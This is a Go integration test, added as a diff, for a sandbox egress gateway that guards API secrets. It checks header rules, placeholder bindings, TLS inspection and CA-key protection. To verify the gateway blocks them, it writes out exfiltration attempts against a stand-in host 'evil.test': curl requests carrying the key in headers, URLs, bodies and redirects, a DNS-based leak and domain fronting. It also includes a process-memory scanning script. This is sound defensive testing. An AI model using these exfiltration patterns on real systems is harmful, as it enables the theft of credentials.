@@ -1,0 +1,283 @@
+package integration
+
+import (
+	"crypto/sha256"
+	"encoding/hex"
+	"encoding/json"
+	"fmt"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/fencesandbox/fence/api"
+	"github.com/fencesandbox/fence/client"
+)
+
+// The egress gateway, end to end: a daemon whose "public" roots are the
+// fake internet's, sandboxes with header rules, secret bindings and
+// inspection, and the wan servers' log as the oracle of what left.
+func TestGateway(t *testing.T) {
+	requireTemplate(t, "base")
+	fn := newFakeNet(t)
+	d := startDaemon(t, newDataDir(t), "--dns-upstream", fn.DNS.Addr, "--upstream-ca", fn.CAFile)
+	x := &netEnv{d: d, fn: fn, canary: newCanary(t)}
+
+	const value = "s3cr3t-VALUE-0123456789abcdef"
+	putSecret := func(name, v string, update bool) {
+		t.Helper()
+		path, want := "/secrets", 201
+		body := fmt.Sprintf(`{"name":%q,"value":%q}`, name, v)
+		if update {
+			path, want, body = "/secrets/"+name, 200, fmt.Sprintf(`{"value":%q}`, v)
+		}
+		r := d.do(t, "POST", path, d.Key, strings.NewReader(body), nil)
+		if r.Status != want {
+			t.Fatalf("POST %s = %d %s", path, r.Status, r.Body)
+		}
+	}
+	putSecret("api-key", value, false)
+
+	// wanSaw reports whether a wan log line since m contains s.
+	wanSaw := func(m int, s string) bool {
+		for _, l := range fn.since(m) {
+			if strings.Contains(l, s) {
+				return true
+			}
+		}
+		return false
+	}
+	// neverHeld checks that nothing in the sandbox holds the value: its
+	// processes' environments, its files, its processes' memory.
+	neverHeld := func(t *testing.T, e *client.Envd, v string) {
+		t.Helper()
+		script := fmt.Sprintf(`
+v=%q
+for f in /proc/[0-9]*/environ; do if grep -qa -- "$v" "$f" 2>/dev/null; then echo "HELD in $f"; fi; done
+grep -rlaF -- "$v" /etc /root /home /tmp /var /opt /usr/local 2>/dev/null | sed 's/^/HELD in /'
+python3 - "$v" <<'PY'
+import os, re, sys
+needle = sys.argv[1].encode()
+scanned = 0
+for pid in [p for p in os.listdir('/proc') if p.isdigit()]:
+    try:
+        maps = open(f'/proc/{pid}/maps').read().splitlines()
+        mem = open(f'/proc/{pid}/mem', 'rb', 0)
+    except OSError:
+        continue
+    for line in maps:
+        addr, perms = line.split()[:2]
+        if 'r' not in perms:
+            continue
+        lo, hi = (int(x, 16) for x in addr.split('-'))
+        try:
+            mem.seek(lo)
+            chunk = mem.read(hi - lo)
+        except (OSError, ValueError, OverflowError):
+            continue
+        scanned += len(chunk)
+        if needle in chunk:
+            print('HELD in memory of', pid)
+print('scanned', scanned)
+PY
+`, v)
+		out := sh(t, e.WithUser("root"), script)
+		if strings.Contains(out, "HELD") {
+			t.Errorf("the sandbox holds the secret value:\n%s", out)
+		}
+		if !strings.Contains(out, "scanned ") || strings.Contains(out, "scanned 0\n") {
+			t.Errorf("memory scan read nothing: %s", out)
+		}
+	}
+
+	t.Run("rule", func(t *testing.T) {
+		sb := d.create(t, api.NewSandbox{TemplateID: "base", Network: &api.NetworkConfig{
+			DenyOut: []string{"0.0.0.0/0"}, AllowOut: []string{"rules.test"},
+			Rules: map[string][]api.NetworkRule{"rules.test": {{Transform: &api.NetworkTransform{
+				Headers: map[string]string{"Authorization": "Bearer ${e2b.secrets.api-key}"}}}}},
+		}})
+		e := sb.Envd()
+		m := fn.mark()
+		out := sh(t, e, "curl -sS --max-time 20 https://rules.test/headers")
+		if !wanSaw(m, "Bearer "+value) {
+			t.Errorf("the wan did not get the secret in the header: %q", fn.since(m))
+		}
+		if strings.Contains(out, value) {
+			t.Errorf("the echoed response reached the sandbox unmasked: %q", out)
+		}
+		if !strings.Contains(out, "Authorization: Bearer ") {
+			t.Errorf("echo = %q, want the (masked) injected header", out)
+		}
+		neverHeld(t, e, value)
+
+		// Rotation reaches the live sandbox on its next request.
+		putSecret("api-key", value+"-rotated", true)
+		m = fn.mark()
+		sh(t, e, "curl -sS --max-time 20 -o /dev/null https://rules.test/headers")
+		if !wanSaw(m, "Bearer "+value+"-rotated") {
+			t.Errorf("after rotation the wan did not get the new value: %q", fn.since(m))
+		}
+		putSecret("api-key", value, true)
+
+		// A rule with a secret is never applied over plain HTTP.
+		m = fn.mark()
+		attempt(t, e, "curl -sS --max-time 20 http://rules.test/headers")
+		if wanSaw(m, value) {
+			t.Errorf("the secret went out over plain HTTP: %q", fn.since(m))
+		}
+	})
+
+	t.Run("binding", func(t *testing.T) {
+		sb := d.create(t, api.NewSandbox{TemplateID: "base",
+			Secrets: map[string]api.SecretBinding{"API_KEY": {Secret: "api-key", Hosts: []string{"api.secret.test"}}},
+			Network: &api.NetworkConfig{DenyOut: []string{"0.0.0.0/0"},
+				AllowOut: []string{"api.secret.test", "evil.test", "*.evil.test", "other.test"}},
+		})
+		e := sb.Envd()
+		ph := strings.TrimSpace(sh(t, e, "printf %s \"$API_KEY\""))
+		if ph == "" || strings.Contains(ph, value) {
+			t.Fatalf("API_KEY in the sandbox = %q, want a placeholder", ph)
+		}
+		m := fn.mark()
+		out := sh(t, e, `curl -sS --max-time 20 -H "Authorization: Bearer $API_KEY" https://api.secret.test/headers`)
+		if !wanSaw(m, "Bearer "+value) {
+			t.Errorf("the bound host did not get the real value: %q", fn.since(m))
+		}
+		if strings.Contains(out, value) || !strings.Contains(out, ph) {
+			t.Errorf("echo = %q, want the placeholder back, never the value", out)
+		}
+		neverHeld(t, e, value)
+
+		leaks := map[string]string{
+			"unbound host":  `curl -sS --max-time 20 -H "X-Key: $API_KEY" https://evil.test/`,
+			"url":           `curl -sS --max-time 20 "https://api.secret.test/q?key=$API_KEY"`,
+			"path":          `curl -sS --max-time 20 "https://api.secret.test/$API_KEY"`,
+			"body":          `curl -sS --max-time 20 -d "key=$API_KEY" https://api.secret.test/post`,
+			"redirect":      `curl -sS --max-time 20 --location-trusted -H "Authorization: Bearer $API_KEY" "https://api.secret.test/redirect?to=https://evil.test/landed"`,
+			"sni-not-host":  `curl -sS --max-time 20 -H "Host: evil.test" -H "Authorization: Bearer $API_KEY" https://api.secret.test/headers`,
+			"plain http":    `curl -sS --max-time 20 -H "Authorization: Bearer $API_KEY" http://api.secret.test/headers`,
+			"other by host": `curl -sS --max-time 20 -H "Authorization: Bearer $API_KEY" https://other.test/headers`,
+		}
+		for name, script := range leaks {
+			m := fn.mark()
+			out, _ := attempt(t, e, script)
+			time.Sleep(100 * time.Millisecond)
+			for _, l := range fn.since(m) {
+				if strings.Contains(l, value) || (strings.Contains(l, ph) && !strings.Contains(l, "host=api.secret.test")) {
+					t.Errorf("%s: the wan saw %q", name, l)
+				}
+				if strings.Contains(l, "/landed") || (name == "sni-not-host" && strings.Contains(l, "request host=evil.test")) {
+					t.Errorf("%s: the wan got the request: %q", name, l)
+				}
+			}
+			if strings.Contains(out, value) {
+				t.Errorf("%s: the sandbox saw the value: %q", name, out)
+			}
+		}
+		// In DNS: the name never reaches the upstream resolver.
+		dm := fn.dnsMark()
+		attempt(t, e, `getent hosts "$API_KEY.evil.test"`)
+		x.noUpstreamQuery(t, dm, ph)
+	})
+
+	t.Run("inspect", func(t *testing.T) {
+		inspect := true
+		in := d.create(t, api.NewSandbox{TemplateID: "base", Network: &api.NetworkConfig{
+			DenyOut: []string{"0.0.0.0/0"}, AllowOut: []string{"other.test"}, Inspect: &inspect}})
+		pass := d.create(t, api.NewSandbox{TemplateID: "base", Network: &api.NetworkConfig{
+			DenyOut: []string{"0.0.0.0/0"}, AllowOut: []string{"other.test"}}})
+		front := `curl -sS --max-time 20 -H "Host: evil.test" https://other.test/fronted`
+		m := fn.mark()
+		out, code := attempt(t, in.Envd(), front)
+		if code == 0 && strings.Contains(out, "hello from wan") || wanSaw(m, "/fronted") {
+			t.Errorf("fronting under inspection reached the wan: exit %d %q", code, out)
+		}
+		// Without inspection the allowed SNI carries it (documented).
+		m = fn.mark()
+		attempt(t, pass.Envd(), front)
+		if !wanSaw(m, "/fronted") {
+			t.Logf("pass-through fronting did not reach the wan: %q", fn.since(m))
+		}
+		// Pass-through hosts see the client's own TLS: the certificate is
+		// the wan's; intercepted ones get the gateway's.
+		issuer := `curl -sSkv --max-time 20 -o /dev/null https://other.test/ 2>&1 | grep -i 'issuer:'`
+		if got := sh(t, pass.Envd(), issuer); !strings.Contains(got, "fence fake public root") {
+			t.Errorf("pass-through issuer = %q, want the wan's root", got)
+		}
+		if got := sh(t, in.Envd(), issuer); strings.Contains(got, "fence fake public root") {
+			t.Errorf("inspected issuer = %q, want the gateway's CA", got)
+		}
+		// The sandbox trusts the gateway without -k.
+		sh(t, in.Envd(), "curl -sS --max-time 20 https://other.test/ | grep -q 'hello from wan'")
+		// An upstream that fails verification gets no request.
+		m = fn.mark()
+		if out, code := attempt(t, in.Envd(), "curl -sS --max-time 20 https://other.test:8443/untrusted"); code == 0 {
+			t.Errorf("untrusted upstream: exit 0 %q", out)
+		}
+		if wanSaw(m, "/untrusted") {
+			t.Errorf("an upstream that failed verification got the request")
+		}
+	})
+
+	t.Run("ca key", func(t *testing.T) {
+		var keys []string
+		filepath.WalkDir(d.DataDir, func(p string, de os.DirEntry, err error) error {
+			if err == nil && !de.IsDir() && strings.HasSuffix(p, "ca-key.pem") {
+				keys = append(keys, p)
+			}
+			return nil
+		})
+		if len(keys) != 1 {
+			t.Fatalf("CA keys under the data dir: %v, want one", keys)
+		}
+		for p := keys[0]; p != d.DataDir && p != "/"; p = filepath.Dir(p) {
+			fi, err := os.Stat(p)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if p == keys[0] && fi.Mode().Perm()&0o077 != 0 {
+				t.Errorf("%s mode %v, want no access for group and others", p, fi.Mode())
+			}
+		}
+		sb := d.create(t, api.NewSandbox{TemplateID: "base"})
+		out := sh(t, sb.Envd().WithUser("root"), "find / -xdev -name 'ca-key.pem' 2>/dev/null; grep -rl 'PRIVATE KEY' /etc/fence /etc/ssl 2>/dev/null; true")
+		if strings.TrimSpace(out) != "" {
+			t.Errorf("the sandbox finds key material: %q", out)
+		}
+	})
+
+	t.Run("downloads", func(t *testing.T) {
+		sb := d.create(t, api.NewSandbox{TemplateID: "base", Network: &api.NetworkConfig{
+			DenyOut: []string{"0.0.0.0/0"}, AllowOut: []string{"@pypi", "@npm", "@debian"}}})
+		paths := map[string]string{
+			"pypi":   "https://files.pythonhosted.org/packages/aa/bb/cc/requests-2.32.3-py3-none-any.whl",
+			"npm":    "https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz",
+			"debian": "http://deb.debian.org/debian/pool/main/h/hello/hello_2.10-3_amd64.deb",
+		}
+		for _, u := range paths {
+			sh(t, sb.Envd(), "curl -sSf --max-time 20 -o /dev/null "+u)
+		}
+		var got []struct {
+			Ecosystem, Name, Version, URL, SHA256 string
+			Size                                  int64
+		}
+		eventually(t, 10*time.Second, "download records", func() bool {
+			r := d.do(t, "GET", "/sandboxes/"+sb.ID()+"/downloads", d.Key, nil, nil)
+			got = nil
+			json.Unmarshal(r.Body, &got)
+			return len(got) >= 3
+		})
+		want := map[string][2]string{"pypi": {"requests", "2.32.3"}, "npm": {"left-pad", "1.3.0"}, "debian": {"hello", "2.10-3"}}
+		for _, g := range got {
+			w, ok := want[g.Ecosystem]
+			u := paths[g.Ecosystem]
+			idx := strings.Index(u, "/")
+			path := u[strings.Index(u[idx+2:], "/")+idx+2:]
+			sum := sha256.Sum256(artifactBytes(path))
+			if !ok || g.Name != w[0] || g.Version != w[1] || g.SHA256 != hex.EncodeToString(sum[:]) || g.Size != 96<<10 {
+				t.Errorf("record %+v, want %s %v sha256 %x size %d", g, g.Ecosystem, w, sum, 96<<10)
+			}
+		}
+	})
+}
